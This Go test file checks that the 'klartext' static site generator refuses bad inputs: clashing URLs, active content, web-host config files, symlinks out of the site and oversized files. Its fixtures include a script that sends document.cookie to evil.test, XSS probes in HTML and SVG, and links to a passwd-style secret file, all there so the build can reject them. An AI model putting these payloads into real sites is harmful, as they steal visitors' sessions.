package pipeline

// The bad-input catalogue for files and paths (issue #15): two owners of
// one output path, active content in content/, links and special files in
// content/, data and the theme. Each refused case goes through refused():
// the build fails with the exact diagnostic and leaves the previous output
// byte-identical.

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/klartext/klartext/generator/content"
)

// allowRaw returns a change that writes site.yaml with allow_raw naming
// the given files (line 4 and on), and then the files themselves.
func allowRaw(t *testing.T, files map[string]string, allowed ...string) func(root string) {
	return func(root string) {
		yaml := minimalSite()["content/site.yaml"] + "allow_raw:\n"
		for _, a := range allowed {
			yaml += "  - " + a + "\n"
		}
		put(t, "content/site.yaml", yaml)(root)
		for p, text := range files {
			put(t, p, text)(root)
		}
	}
}

// link returns a change that makes a symbolic link at file (below the
// site root) to target.
func link(t *testing.T, file, target string) func(root string) {
	return func(root string) {
		full := filepath.Join(root, filepath.FromSlash(file))
		if err := os.MkdirAll(filepath.Dir(full), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.Symlink(target, full); err != nil {
			t.Fatal(err)
		}
	}
}

// secretFile writes a file outside any site and returns its real path.
func secretFile(t *testing.T, name, text string) string {
	t.Helper()
	p := filepath.Join(t.TempDir(), name)
	if err := os.WriteFile(p, []byte(text), 0o600); err != nil {
		t.Fatal(err)
	}
	real, err := filepath.EvalSymlinks(p)
	if err != nil {
		t.Fatal(err)
	}
	return real
}

func both(changes ...func(root string)) func(root string) {
	return func(root string) {
		for _, c := range changes {
			c(root)
		}
	}
}

const advisorAnna = "---\nname: Anna Berg\nrole: Beraterin\nbranch: Mannheim\nlanguages: [de]\nadvice_model: fee-based\n---\nText.\n"

const productsCSV = "id,name,isin,type,currency,sri,mrm,crm,rhp_years,entry_pct,exit_pct,ongoing_pct,transaction_pct,performance_fee_pct,scenario_stress_pct,scenario_unfavourable_pct,scenario_moderate_pct,scenario_favourable_pct\n" +
	"tagesgeld,Tagesgeld,,deposit,EUR,1,1,1,1,0.00,0.00,0.00,0.00,0.00,1.75,1.75,1.75,1.75\n"

// --- one owner per output path ---

func TestBadInputPageShadowsTopicPage(t *testing.T) {
	// minimalSite's ueber-uns.md has topics: [kosten].
	res := refused(t, put(t, "content/topics/kosten.md", "---\ntitle: Kosten\n---\nEigener Text.\n"),
		`content/topics/kosten.md: this page and generated: the topic page of "kosten" both map to the URL /topics/kosten/ — `+
			"klartext generates this address itself; rename or move this file")
	// The folder's section page, made for it, takes the topics list's
	// address: reported at the same file, not at site.yaml.
	want := "content/topics/kosten.md: the section page of content/topics/ (from content/topics/kosten.md) and generated: the topics list " +
		"both map to the URL /topics/ — klartext generates this address itself; rename or move content/topics/kosten.md"
	if got := joinDiags(res); !strings.Contains(got, want+"\n") || strings.Contains(got, "site.yaml") {
		t.Errorf("want %s in\n%s", want, got)
	}
}

func TestBadInputPageShadowsTopicsList(t *testing.T) {
	refused(t, put(t, "content/topics/_index.md", "---\ntitle: Themen\n---\n"),
		"content/topics/_index.md: this page and generated: the topics list both map to the URL /topics/ — "+
			"klartext generates this address itself; rename or move this file")
}

func TestBadInputPageShadowsAdvisorFilter(t *testing.T) {
	refused(t, both(put(t, "content/advisors/anna.md", advisorAnna),
		put(t, "content/advisors/branch/mannheim.md", "---\ntitle: Mannheim\n---\n")),
		"content/advisors/branch/mannheim.md: this page and generated: the advisor filter page /advisors/branch/mannheim/ "+
			"both map to the URL /advisors/branch/mannheim/ — klartext generates this address itself; rename or move this file")
}

func TestBadInputPageShadowsPageTwo(t *testing.T) {
	refused(t, func(root string) {
		put(t, "content/site.yaml", minimalSite()["content/site.yaml"]+"pagination: 1\n")(root)
		put(t, "content/docs/page/2.md", "---\ntitle: Seite zwei\n---\n")(root)
	}, "content/docs/page/2.md: this page and page 2 (from content/docs/_index.md) both map to the URL /docs/page/2/ — "+
		"klartext generates that address from content/docs/_index.md; rename or move this file")
}

func TestBadInputAssetShadowsVCard(t *testing.T) {
	refused(t, both(put(t, "content/advisors/anna.md", advisorAnna), put(t, "content/advisors/anna/anna.vcf", "BEGIN:VCARD\n")),
		"content/advisors/anna/anna.vcf: this file and the vCard (from content/advisors/anna.md) both map to the URL /advisors/anna/anna.vcf — "+
			"klartext generates that address from content/advisors/anna.md; rename or move this file")
}

func TestBadInputFoldersDifferOnlyInCase(t *testing.T) {
	// minimalSite has content/docs/preise.pdf and content/docs/info.md.
	res := refused(t, both(put(t, "content/Docs/preise.pdf", "%PDF-1.4 anders"), put(t, "content/Docs/info.md", "---\ntitle: Info 2\n---\n")),
		"content/docs/preise.pdf: this file and content/Docs/preise.pdf both map to the URL /docs/preise.pdf and /Docs/preise.pdf "+
			"(the same address on a web host, which does not tell letter case, /x/ and /x/index.html, or Unicode normalisations apart) — rename one of the files")
	want := "content/docs/info.md: this page and content/Docs/info.md both map to the URL /docs/info/ — rename one of the files"
	if !strings.Contains(joinDiags(res), want+"\n") {
		t.Errorf("want %s in\n%s", want, joinDiags(res))
	}
}

func TestBadInputAssetsDifferOnlyInCase(t *testing.T) {
	refused(t, put(t, "content/docs/Preise.PDF", "%PDF-1.4 anders"),
		"content/docs/preise.pdf: this file and content/docs/Preise.PDF both map to the URL /docs/preise.pdf and /docs/Preise.PDF "+
			"(the same address on a web host, which does not tell letter case, /x/ and /x/index.html, or Unicode normalisations apart) — rename one of the files")
}

func TestBadInputAssetsDifferOnlyInNormalisation(t *testing.T) {
	nfc, nfd := "content/docs/\u00dcbersicht.pdf", "content/docs/U\u0308bersicht.pdf"
	refused(t, both(put(t, nfc, "%PDF-1.4 a"), put(t, nfd, "%PDF-1.4 b")),
		nfc+": this file and "+nfd+" both map to the URL /docs/\u00dcbersicht.pdf and /docs/U\u0308bersicht.pdf "+
			"(the same address on a web host, which does not tell letter case, /x/ and /x/index.html, or Unicode normalisations apart) — rename one of the files")
}

// TestBadInputPagesDifferOnlyInNormalisation: a page saved on a Mac has a
// decomposed name; it gets the same URL as the composed one (the Umlaut
// kept), so two of them clash instead of one losing its Umlaut.
func TestBadInputPagesDifferOnlyInNormalisation(t *testing.T) {
	nfd := "content/U\u0308ber uns.md"
	res, _ := builds(t, map[string]string{nfd: "---\ntitle: Über uns\n---\n"})
	if n := res.Site.BySource[nfd]; n == nil || n.URL != "/\u00fcber-uns/" {
		t.Fatalf("a decomposed name: %+v, want the URL /über-uns/", n)
	}
	refused(t, both(put(t, "content/\u00dcber uns.md", "---\ntitle: A\n---\n"), put(t, nfd, "---\ntitle: B\n---\n")),
		"content/\u00dcber uns.md: this page and "+nfd+" both map to the URL /\u00fcber-uns/ — rename one of the files")
}

func TestBadInputFolderNamedIndexHTML(t *testing.T) {
	refused(t, put(t, "content/docs/index.html/plan.pdf", "%PDF-1.4"),
		"content/docs/index.html/plan.pdf: content/docs/_index.md writes the file /docs/index.html, but this file needs a folder of that name "+
			"for /docs/index.html/plan.pdf — rename the folder or the file; a name cannot be both on the web server")
}

func TestBadInputFileWherePageNeedsFolder(t *testing.T) {
	refused(t, put(t, "content/docs/info", "ohne Endung"),
		"content/docs/info.md: content/docs/info writes the file /docs/info, but this page needs a folder of that name "+
			"for /docs/info/index.html — rename the folder or the file; a name cannot be both on the web server")
}

// --- klartext's own files and the theme's, shadowed from content/ ---

func TestBadInputRobotsTxtShadowed(t *testing.T) {
	refused(t, put(t, "content/robots.txt", "User-agent: *\nDisallow: /\n"),
		"content/robots.txt: this file and generated: robots.txt both map to the URL /robots.txt — "+
			"klartext generates this address itself; rename or move this file")
}

func TestBadInputHeadersFileRefused(t *testing.T) {
	refused(t, put(t, "content/_headers", "/*\n  Content-Security-Policy: default-src *\n"),
		"content/_headers: this file is not published: it is a configuration file of the web host, which would change the web host's headers "+
			"or redirects (the Content-Security-Policy, where addresses lead) — klartext writes the host's _headers itself (site.yaml's headers: adds to it); "+
			"if it must be published as it is, name it in site.yaml: allow_raw: [_headers]")
}

func TestBadInputAllowedHeadersCannotReplaceGenerated(t *testing.T) {
	refused(t, allowRaw(t, map[string]string{"content/_headers": "/*\n  X-Frame-Options: DENY\n"}, "_headers"),
		"content/_headers: this file and generated: the _headers file (the Content-Security-Policy for the web host) both map to the URL /_headers — "+
			"klartext generates this address itself; rename or move this file")
}

func TestBadInputAllowedSitemapCannotReplaceGenerated(t *testing.T) {
	refused(t, allowRaw(t, map[string]string{"content/sitemap.xml": "<urlset/>"}, "sitemap.xml"),
		"content/sitemap.xml: this file and generated: the sitemap both map to the URL /sitemap.xml — "+
			"klartext generates this address itself; rename or move this file")
}

func TestBadInputAllowedFeedCannotReplaceSectionFeed(t *testing.T) {
	refused(t, allowRaw(t, map[string]string{"content/docs/feed.xml": "<feed/>"}, "docs/feed.xml"),
		"content/docs/feed.xml: this file and generated: the Atom feed of /docs/ both map to the URL /docs/feed.xml — "+
			"klartext generates this address itself; rename or move this file")
}

func TestBadInputAllowed404CannotReplaceGenerated(t *testing.T) {
	refused(t, allowRaw(t, map[string]string{"content/404.html": "<p>weg</p>"}, "404.html"),
		"content/404.html: this file and generated: the 404 page both map to the URL /404.html — "+
			"klartext generates this address itself; rename or move this file")
}

func TestBadInputContentScriptRefused(t *testing.T) {
	refused(t, put(t, "content/js/charts.js", "fetch('https://evil.test/?'+document.cookie)"),
		"content/js/charts.js: this file is not published: it is JavaScript, which would run as the bank's own site, "+
			"outside the theme and the Content-Security-Policy — scripts come from the theme (themes/klartext/static/); "+
			"if it must be published as it is, name it in site.yaml: allow_raw: [js/charts.js]")
}

func TestBadInputAllowedScriptCannotReplaceThemeFile(t *testing.T) {
	refused(t, allowRaw(t, map[string]string{"content/js/charts.js": "alert(1)"}, "js/charts.js"),
		"content/js/charts.js: this file and the built-in theme's static/js/charts.js both map to the URL /js/charts.js — "+
			"content/ cannot replace a theme file; put your version at themes/klartext/static/js/charts.js, or rename this file")
}

func TestBadInputAllowedHTMLCannotReplaceProductPage(t *testing.T) {
	refused(t, allowRaw(t, map[string]string{
		"content/data/products.csv":             productsCSV,
		"content/products/tagesgeld/index.html": "<h1>Bestes Produkt</h1>",
	}, "products/tagesgeld/index.html"),
		`content/products/tagesgeld/index.html: this file and the product page of "tagesgeld" (from content/data/products.csv:2) `+
			"both map to the URL /products/tagesgeld/ — klartext generates that address from content/data/products.csv; rename or move this file")
}

func TestBadInputRawHTMLRefused(t *testing.T) {
	refused(t, put(t, "content/products/tagesgeld/index.html", "<script>alert(1)</script>"),
		"content/products/tagesgeld/index.html: this file is not published: it is raw HTML, which would run as the bank's own site, "+
			"outside the theme and the Content-Security-Policy — write the page in Markdown, or "+
			"if it must be published as it is, name it in site.yaml: allow_raw: [products/tagesgeld/index.html]")
}

func TestBadInputWasmAndXHTMLRefused(t *testing.T) {
	res := refused(t, both(put(t, "content/rechner/rechner.wasm", "\x00asm"), put(t, "content/rechner/seite.xhtml", "<html/>")),
		"content/rechner/rechner.wasm: this file is not published: it is WebAssembly, which would run as the bank's own site, "+
			"outside the theme and the Content-Security-Policy — scripts come from the theme (themes/klartext/static/); "+
			"if it must be published as it is, name it in site.yaml: allow_raw: [rechner/rechner.wasm]")
	if !strings.Contains(joinDiags(res), "content/rechner/seite.xhtml: this file is not published: it is raw HTML") {
		t.Errorf("the .xhtml file must be refused too:\n%s", joinDiags(res))
	}
}

func TestBadInputSVGWithScript(t *testing.T) {
	refused(t, put(t, "content/docs/logo.svg", `<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>`),
		"content/docs/logo.svg: this file is not published: it is an SVG with script (it has a <script> element), "+
			"which would run as the bank's own site, outside the theme and the Content-Security-Policy — "+
			"remove it, or if it must be published as it is, name it in site.yaml: allow_raw: [docs/logo.svg]")
}

func TestBadInputSVGWithEventHandler(t *testing.T) {
	refused(t, put(t, "content/docs/logo.svg", `<svg xmlns="http://www.w3.org/2000/svg"><rect width="9" height="9" onmouseover="alert(1)"/></svg>`),
		"content/docs/logo.svg: this file is not published: it is an SVG with script (the <rect> element has the event attribute onmouseover), "+
			"which would run as the bank's own site, outside the theme and the Content-Security-Policy — "+
			"remove it, or if it must be published as it is, name it in site.yaml: allow_raw: [docs/logo.svg]")
}

// TestSVGPictureIsPublished: an SVG without script is a picture.
func TestSVGPictureIsPublished(t *testing.T) {
	logo := `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><title>Logo</title><rect width="9" height="9"/></svg>`
	res, dest := builds(t, map[string]string{"content/docs/logo.svg": logo})
	if got := read(t, filepath.Join(dest, "docs", "logo.svg")); got != logo || len(res.Diagnostics.Warnings()) != 0 {
		t.Errorf("published %q, warnings %v", got, res.Diagnostics.Warnings())
	}
}

func TestBadInputWellKnownNeedsAllowRaw(t *testing.T) {
	refused(t, put(t, "content/.well-known/acme-challenge/token", "token.key"),
		"content/.well-known/acme-challenge/token: this file is not published: it is a file below .well-known/ "+
			"(it proves control of the bank's domain to other services), which other services read as proof of control of the bank's domain "+
			"(certificates, app links, sign-in) — publish files below .well-known/ one by one: "+
			"if it must be published as it is, name it in site.yaml: allow_raw: [.well-known/acme-challenge/token]")
}

// TestAllowRawPublishesWithAWarningEveryBuild: files named in allow_raw
// are published as they are, each with a warning on every build; other
// hidden files are still not published.
func TestAllowRawPublishesWithAWarningEveryBuild(t *testing.T) {
	files := minimalSite()
	files["content/site.yaml"] += "allow_raw:\n  - downloads/rechner.html\n  - .well-known/security.txt\n  - _redirects\n"
	files["content/downloads/rechner.html"] = "<p>Zinsrechner</p>"
	files["content/.well-known/security.txt"] = "Contact: mailto:security@bank.test\n"
	files["content/_redirects"] = "/alt/ /neu/ 301\n"
	files["content/.well-known/.DS_Store"] = "x"
	files["content/docs/.DS_Store"] = "x"
	files["content/.git/config"] = "x"
	root := writeSite(t, files)
	dest := filepath.Join(root, "public")
	for i := 0; i < 2; i++ {
		res := build(t, root, dest)
		if res.Diagnostics.HasErrors() {
			t.Fatal(res.Diagnostics.All())
		}
		var warned []string
		for _, w := range res.Diagnostics.Warnings() {
			if strings.Contains(w.Message, "published as it is because site.yaml allows it (allow_raw)") {
				warned = append(warned, w.File)
			}
		}
		if want := "content/.well-known/security.txt content/_redirects content/downloads/rechner.html"; strings.Join(warned, " ") != want {
			t.Errorf("build %d warned for %q, want %s", i+1, warned, want)
		}
	}
	for _, f := range []string{"downloads/rechner.html", ".well-known/security.txt", "_redirects"} {
		if got := read(t, filepath.Join(dest, filepath.FromSlash(f))); got != files["content/"+f] {
			t.Errorf("%s: %q", f, got)
		}
	}
	for _, f := range []string{".well-known/.DS_Store", "docs/.DS_Store", ".git/config"} {
		if _, err := os.Stat(filepath.Join(dest, filepath.FromSlash(f))); err == nil {
			t.Errorf("%s must not be published", f)
		}
	}
}

func TestBadInputAllowRawNamesNoFile(t *testing.T) {
	refused(t, allowRaw(t, nil, "downloads/rechner.html"),
		"content/site.yaml:5: allow_raw names downloads/rechner.html, but there is no file content/downloads/rechner.html — "+
			"remove the entry, or correct the path (below content/, with the file's exact name)")
}

// --- links, special files and sizes in content/, data and the theme ---

func TestBadInputThemePartialLinksOutside(t *testing.T) {
	secret := secretFile(t, "geheim.html", `{{define "partials/footer.html"}}Gehaltsliste{{end}}`)
	refused(t, link(t, "themes/klartext/layouts/partials/footer.html", secret),
		"themes/klartext/layouts/partials/footer.html: symbolic link points outside the themes/klartext folder (to "+secret+") — "+
			"copy the file into themes/klartext/; links out of the site are refused so that nothing private is published")
}

func TestBadInputThemeStaticLinksOutside(t *testing.T) {
	secret := secretFile(t, "passwd", "root:x:0:0")
	refused(t, link(t, "themes/klartext/static/passwd.txt", secret),
		"themes/klartext/static/passwd.txt: symbolic link points outside the themes/klartext folder (to "+secret+") — "+
			"copy the file into themes/klartext/; links out of the site are refused so that nothing private is published")
}

func TestBadInputThemeLinkLoops(t *testing.T) {
	watchdog := time.AfterFunc(20*time.Second, func() { panic("the build hangs on a symlink loop in the theme") })
	defer watchdog.Stop()
	refused(t, both(link(t, "themes/klartext/layouts/index.html", "index2.html"), link(t, "themes/klartext/layouts/index2.html", "index.html"),
		link(t, "themes/klartext/static/hoch", "..")),
		"themes/klartext/layouts/index.html: the symbolic link loops (following it leads back to a link already followed) — "+
			"replace the link by the file itself")
}

func TestBadInputThemeFolderLinksOutside(t *testing.T) {
	elsewhere := t.TempDir()
	put(t, "layouts/index.html", "{{.Title}} fremd")(elsewhere)
	real, _ := filepath.EvalSymlinks(elsewhere)
	refused(t, link(t, "themes/klartext", elsewhere),
		"themes/klartext: the folder is a symbolic link to "+real+", outside the site folder; move the folder into the site")
}

// TestThemeLinkInsideIsFollowed: a link inside the site's theme folder is
// an ordinary file of the theme; hidden files of the theme are not
// published.
func TestThemeLinkInsideIsFollowed(t *testing.T) {
	files := minimalSite()
	files["themes/klartext/static/css/extra.css"] = "body{color:#123}"
	files["themes/klartext/static/.DS_Store"] = "x"
	files["themes/klartext/static/css/site.css~"] = "backup"
	root := writeSite(t, files)
	link(t, "themes/klartext/static/css/alias.css", "extra.css")(root)
	dest := filepath.Join(root, "public")
	if res := build(t, root, dest); res.Diagnostics.HasErrors() {
		t.Fatal(res.Diagnostics.All())
	}
	if got, _ := filepath.Glob(filepath.Join(dest, "css", "alias.*.css")); len(got) != 1 || read(t, got[0]) != "body{color:#123}" {
		t.Errorf("alias.css: %q", got)
	}
	for _, f := range []string{".DS_Store", "css/site.css~"} {
		if _, err := os.Stat(filepath.Join(dest, filepath.FromSlash(f))); err == nil {
			t.Errorf("%s of the theme must not be published", f)
		}
	}
}

// TestBadInputDataLinksOutside: the product export linked from outside
// the site is refused before it is read, so none of its text reaches the
// diagnostics (a CI log) either.
func TestBadInputDataLinksOutside(t *testing.T) {
	secret := secretFile(t, "export.csv", "id,name\nGEHEIM-4711,\n")
	res := refused(t, link(t, "content/data/products.csv", secret),
		"content/data/products.csv: symbolic link points outside the content folder (to "+secret+") — "+
			"copy the file into content/; links out of the site are refused so that nothing private is published")
	if strings.Contains(joinDiags(res), "GEHEIM") {
		t.Errorf("the linked file was read:\n%s", joinDiags(res))
	}
}

func TestBadInputSiteSettingsLinkOutside(t *testing.T) {
	secret := secretFile(t, "site.yaml", "title: GEHEIM\nbaseURL: https://evil.test/\nlanguage: de\n")
	res := refused(t, func(root string) {
		os.Remove(filepath.Join(root, "content", "site.yaml"))
		link(t, "content/site.yaml", secret)(root)
	}, "content/site.yaml: symbolic link points outside the content folder (to "+secret+") — "+
		"copy the file into content/; links out of the site are refused so that nothing private is published")
	if strings.Contains(joinDiags(res), "missing") {
		t.Errorf("a refused site.yaml is not a missing one:\n%s", joinDiags(res))
	}
}

// TestBadInputHugeAsset: a file copied as it is has a limit too; a
// sparse file stands in for 101 MB.
func TestBadInputHugeAsset(t *testing.T) {
	refused(t, func(root string) {
		f, err := os.Create(filepath.Join(root, "content", "docs", "film.pdf"))
		if err != nil {
			t.Fatal(err)
		}
		defer f.Close()
		if err := f.Truncate(content.MaxAssetBytes + 1<<20); err != nil {
			t.Fatal(err)
		}
	}, "content/docs/film.pdf: the file has more than 100 MB, the limit for a file copied as it is — publish large files on a file server and link to them")
}

// TestWithdrawnAdvisorPhotoIsNotPublished: published: false withdraws the
// photo too; the asset is never claimed, so it is not copied.
func TestWithdrawnAdvisorPhotoIsNotPublished(t *testing.T) {
	_, dest := builds(t, map[string]string{
		"content/advisors/anna.md":  strings.Replace(advisorAnna, "---\nname:", "---\npublished: false\nphoto: anna.jpg\nname:", 1),
		"content/advisors/anna.jpg": "JPEG",
		"content/advisors/ben.md":   strings.Replace(advisorAnna, "Anna Berg", "Ben Roth", 1),
	})
	if _, err := os.Stat(filepath.Join(dest, "advisors", "anna.jpg")); err == nil {
		t.Error("the photo of an advisor who withdrew consent is published")
	}
}

// TestBadInputHugeThemeFile: a file of the site's theme has a limit as
// content does (a sparse file stands in for 17 MB).
func TestBadInputHugeThemeFile(t *testing.T) {
	refused(t, func(root string) {
		p := filepath.Join(root, "themes", "klartext", "static", "js", "riesig.js")
		os.MkdirAll(filepath.Dir(p), 0o755)
		f, err := os.Create(p)
		if err != nil {
			t.Fatal(err)
		}
		defer f.Close()
		if err := f.Truncate(17 << 20); err != nil {
			t.Fatal(err)
		}
	}, "themes/klartext/static/js/riesig.js: the file has more than 16 MB, the limit for a file of the theme")
}

func TestBadInputHugeSiteSettings(t *testing.T) {
	refused(t, func(root string) {
		f, err := os.OpenFile(filepath.Join(root, "content", "site.yaml"), os.O_WRONLY, 0)
		if err != nil {
			t.Fatal(err)
		}
		defer f.Close()
		if err := f.Truncate(2 << 20); err != nil {
			t.Fatal(err)
		}
	}, "content/site.yaml: the file has more than 1 MB, the limit for the site settings — site.yaml holds settings only; data belongs in content/data/")
}

// TestBadInputStylesheetCannotReplaceThemeFile: a theme file that is not
// active content is still the theme's.
func TestBadInputStylesheetCannotReplaceThemeFile(t *testing.T) {
	refused(t, put(t, "content/css/site.css", "body{display:none}"),
		"content/css/site.css: this file and the built-in theme's static/css/site.css both map to the URL /css/site.css — "+
			"content/ cannot replace a theme file; put your version at themes/klartext/static/css/site.css, or rename this file")
}
